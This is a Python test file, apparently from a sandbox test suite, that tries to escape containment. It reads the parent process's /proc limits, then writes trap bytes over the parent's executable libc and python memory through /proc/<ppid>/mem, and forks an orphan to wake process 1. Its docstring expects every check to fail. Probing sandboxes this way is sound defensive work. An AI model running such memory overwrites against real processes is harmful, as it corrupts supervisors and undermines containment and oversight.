"""Writes over the code of its parent, which keeps the sandbox up, to be it from then on.

Tries: more rights, killing
Held by: process 1 has the limits of all others, and nobody but the grader needs it
Held by (restricted): Landlock: nothing of other processes in /proc
Outcome: no check passes
"""

import os
import signal
from multiprocessing import current_process

UNLIMITED = [
    "Max cpu time",
    "Max file size",
    "Max core file size",
    "Max processes",
    "Max open files",
    "Max address space",
]

if "@SANDBOX@" in ("bubblewrap", "restricted") and current_process().name == "MainProcess":
    parent = f"/proc/{os.getppid()}"
    try:
        with open(f"{parent}/limits") as limits, open("/proc/self/limits") as own:
            for line, mine in zip(limits, own):
                if line.startswith(tuple(UNLIMITED)) and line != mine:
                    print("gained:", line.split(), "where mine is", mine.split(), flush=True)
    except PermissionError:
        pass
    try:
        with open(f"{parent}/maps") as maps, open(f"{parent}/mem", "r+b", 0) as memory:
            for line in maps:
                bounds, rights, rest = line.split(None, 2)
                if "x" in rights and ("libc" in rest or "python" in rest):
                    low, high = (int(bound, 16) for bound in bounds.split("-"))
                    memory.seek(low)
                    memory.write(b"\xcc" * (high - low))
    except PermissionError:
        pass
    print("tried", flush=True)
    # An orphan for it to take in, which wakes it.
    if os.fork() == 0:
        if os.fork():
            os._exit(0)
        os._exit(0)
    signal.pause()
